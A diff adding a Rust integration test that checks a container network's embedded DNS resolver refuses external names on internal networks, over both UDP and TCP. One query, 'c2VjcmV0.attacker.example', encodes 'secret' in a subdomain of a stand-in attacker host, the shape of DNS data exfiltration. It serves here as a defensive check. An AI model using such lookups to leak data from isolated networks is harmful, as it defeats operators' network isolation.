@@ -8,9 +8,11 @@ use std::time::{Duration, Instant};
 
 use anyhow::{Result, ensure};
 use netns_lab::{Host, Lab, wait_until};
-use ovl_tests::resolver::{Behaviour, FakeResolver, ResolvConf, config, dig};
+use ovl_tests::ports::create_bridge_network;
+use ovl_tests::resolver::{Behaviour, FakeResolver, ResolvConf, config, dig, status};
 use ovl_tests::{
-    Attached, SOON, attach, create_network, start_lab_with, wait_problem,
+    Attached, SOON, assert_contains, attach, attach_workload, create_network, start_lab_with, wait_clean,
+    wait_problem,
 };
 
 const AT: &str = "127.0.0.11";
@@ -114,3 +116,32 @@ fn query(first: &str, second: &str, third: &str) -> Vec<u8> {
     query
 }
 
+#[test]
+fn internal_networks_get_no_external_names() {
+    let (lab, _file, upstream) = lab("");
+    let host = &lab["h1"];
+    create_network(&lab, "inner", &["--internal", "--subnet", "10.78.0.0/24"]).unwrap();
+    create_network(&lab, "routed", &["--internal", "--mode", "l3", "--subnet", "10.79.0.0/16"]).unwrap();
+    create_bridge_network(host, "local", &["--internal", "--subnet", "10.80.0.0/24"]).unwrap();
+    let asking = ["--internal", "--external-names", "--subnet", "10.81.0.0/24"];
+    create_network(&lab, "asking", &asking).unwrap();
+    create_network(&lab, "blue", &["--subnet", "10.82.0.0/24"]).unwrap();
+    for network in ["inner", "routed", "local"] {
+        let asker = attach(host, &format!("on-{network}"), network, &[]).unwrap();
+        for how in ["+notcp", "+tcp"] {
+            assert_eq!(status(&asker.workload, AT, &["c2VjcmV0.attacker.example", how]).unwrap(), "REFUSED");
+        }
+        assert_eq!(dig(&asker.workload, AT, &[&asker.name]).unwrap(), [asker.address()]);
+        let said = host.ctl_json(&["dns", "attacker.example", "--from", &asker.name]).unwrap();
+        assert_eq!(said["status"], "REFUSED");
+        assert_contains(said["why"].as_str().unwrap(), &["internal networks alone", "--external-names"]);
+    }
+    assert_eq!(upstream.udp_queries() + upstream.tcp_connections(), 0);
+    let asker = attach(host, "asker", "asking", &[]).unwrap();
+    assert_eq!(dig(&asker.workload, AT, &["example.org"]).unwrap(), ["192.0.2.7"]);
+    // An endpoint that is on another network as well has a route out anyway.
+    let both = attach(host, "both", "inner", &[]).unwrap();
+    attach_workload(both.workload.clone(), "blue", &[]).unwrap();
+    assert_eq!(dig(&both.workload, AT, &["two.example.org"]).unwrap(), ["192.0.2.7"]);
+    wait_clean(lab.hosts(), SOON).unwrap();
+}
